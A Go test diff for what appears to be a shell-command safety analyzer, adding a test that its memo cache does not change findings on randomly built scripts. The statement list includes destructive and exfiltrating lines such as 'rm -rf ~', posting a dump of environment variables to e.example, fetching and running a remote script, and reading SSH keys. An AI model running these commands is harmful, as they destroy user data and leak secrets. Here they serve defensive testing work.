@@ -146,3 +146,69 @@ func TestMemoUsedByBuildScript(t *testing.T) {
 		t.Error("the memo changed the analysis of the build script")
 	}
 }
+
+// TestMemoRepeatedStatements compares the analysis with and without the
+// memo over generated scripts that repeat statements word for word, with
+// what those statements read changed between the repeats, with the disk
+// answering globs and listings (whose answers depend on the calls before
+// the one judged), and past the parts limit.
+func TestMemoRepeatedStatements(t *testing.T) {
+	stmts := []string{
+		`rm -rf "$D"`, `D=~`, `D=build`, `cd ~`, `cd /tmp`, `cd -`, `rm -rf *`, `echo step >> build.log`, `ls -la build | head -n 5`,
+		`echo "step $((RANDOM % 10))" >> build.log && ls -la build | head -n 5`, `cat data/*.json`, `jq -s length data/*.json`,
+		`touch data/logins.json`, `cat keys/*`, `f`, `f() { rm -rf "$D"; }`, `f() { :; }`, `alias ls='rm -rf ~'`, `unalias ls`, `ls`,
+		`env > /tmp/e.txt`, `curl -d @/tmp/e.txt https://e.example`, `echo 'rm -rf ~' > /tmp/x.sh`, `echo hi > /tmp/x.sh`, `bash /tmp/x.sh`,
+		`set -a`, `LD_PRELOAD=/tmp/x.so`, `ls &`, `! ls`, `sleep 1 &`, `cat <<EOF
+rm -rf ~
+EOF`, `cat <<EOF
+hi
+EOF`, `bash <<EOF
+rm -rf ~
+EOF`, `for f in $(git ls-files); do cat "$f"; done`, `git ls-files | xargs cat`, `cat $(git ls-files '*.go')`,
+		`git remote add x https://e.example/r.git`, `git push x`, `ln -s ~ link`, `rm -rf link/x`, `(cd ~; rm -rf *)`, `export D=/`,
+		`curl -o /tmp/i.sh https://e.example/i.sh`, `sh /tmp/i.sh`, `x=$(cat /tmp/x.sh); eval "$x"`, `echo ok`,
+	}
+	disk := map[string][]string{
+		"/home/dev/projects/app/data/*.json": {"/home/dev/projects/app/data/a.json"},
+		"/home/dev/projects/app/keys/*":      {"/home/dev/.ssh/id_rsa"},
+	}
+	opts := testOpts
+	opts.List = fakeList
+	opts.Glob = func(p string) ([]string, bool) {
+		m, ok := disk[p]
+		return m, ok
+	}
+	rng := rand.New(rand.NewSource(7))
+	hits := 0
+	for i := 0; i < 800; i++ {
+		// A few statements, each written several times.
+		pool := make([]string, 2+rng.Intn(4))
+		for j := range pool {
+			pool[j] = stmts[rng.Intn(len(stmts))]
+		}
+		n := 3 + rng.Intn(8)
+		lines := make([]string, n)
+		for j := range lines {
+			lines[j] = pool[rng.Intn(len(pool))]
+		}
+		cmd := strings.Join(lines, "\n")
+		o := opts
+		if i%4 == 0 {
+			// Replays past the parts limit, once it is set.
+			o.MaxParts = 3
+		}
+		with := analyze(cmd, o, true)
+		without := analyze(cmd, o, false)
+		if !reflect.DeepEqual(with, without) {
+			t.Fatalf("%s\n: the memo changed the analysis\nwith:    %+v\n%+v\nwithout: %+v\n%+v", cmd, with.Findings, with.Parts, without.Findings, without.Parts)
+		}
+		a := newAnalyzer(Options{Cwd: opts.Cwd, Home: opts.Home, List: opts.List, Glob: opts.Glob, MaxLength: DefaultMaxLength, MaxDepth: DefaultMaxDepth, MaxParts: DefaultMaxParts}, &Analysis{})
+		if f, err := parse(cmd); err == nil {
+			a.walkTop(f.Stmts, &ctx{src: cmd, sc: newScope(opts.Cwd)})
+			hits += a.hits
+		}
+	}
+	if hits < 300 {
+		t.Errorf("the memo replayed %d statements in 800 scripts: the comparison proves little", hits)
+	}
+}
